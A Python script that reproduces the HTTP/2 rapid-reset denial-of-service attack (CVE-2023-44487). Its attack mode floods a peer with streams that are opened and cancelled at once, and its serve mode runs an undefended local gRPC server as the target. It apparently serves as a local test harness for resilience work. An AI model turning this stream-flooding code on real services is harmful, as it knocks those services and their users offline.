"""Rapid reset (CVE-2023-44487) and a server without defence, each to be run as a process.

python rapid_reset.py attack SOCKET PATH COUNT    opens COUNT streams, cancelling each at once
python rapid_reset.py serve SOCKET                plain grpc.aio, answering /x/Y with nothing
"""

import asyncio
import contextlib
import json
import socket
import sys

import h2.config
import h2.connection
import h2.events
import h2.exceptions

BATCH = 50


def attack(path, method, count):
    """Send as fast as the peer takes it; print how many streams were opened, and what ended it."""
    connection = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    connection.initiate_connection()
    headers = [
        (":method", "POST"),
        (":scheme", "http"),
        (":authority", "localhost"),
        (":path", method),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ]
    sent, ended = 0, ""
    with socket.socket(socket.AF_UNIX) as peer:
        peer.connect(path)
        try:
            while sent < count and not ended:
                for _ in range(BATCH):
                    stream = connection.get_next_available_stream_id()
                    connection.send_headers(stream, headers)
                    connection.reset_stream(stream)
                    sent += 1
                peer.sendall(connection.data_to_send())
                ended = receive(connection, peer)
        except (OSError, h2.exceptions.ProtocolError) as error:
            ended = type(error).__name__
    print(json.dumps({"sent": sent, "ended": ended}))


def receive(connection, peer):
    """Take what has come; says why the connection ended, if it did."""
    with contextlib.suppress(BlockingIOError):
        while True:
            data = peer.recv(1 << 16, socket.MSG_DONTWAIT)
            if not data:
                return "closed"
            for event in connection.receive_data(data):
                if isinstance(event, h2.events.ConnectionTerminated):
                    return f"GOAWAY {event.error_code}"
    return ""


async def serve(path):
    import grpc

    async def answer(_request, _context):
        return b""

    server = grpc.aio.server()
    handler = grpc.unary_unary_rpc_method_handler(answer)
    server.add_generic_rpc_handlers((grpc.method_handlers_generic_handler("x", {"Y": handler}),))
    server.add_insecure_port(f"unix:{path}")
    await server.start()
    print("ready", flush=True)
    await server.wait_for_termination()


if __name__ == "__main__":
    if sys.argv[1] == "attack":
        attack(sys.argv[2], sys.argv[3], int(sys.argv[4]))
    else:
        asyncio.run(serve(sys.argv[2]))
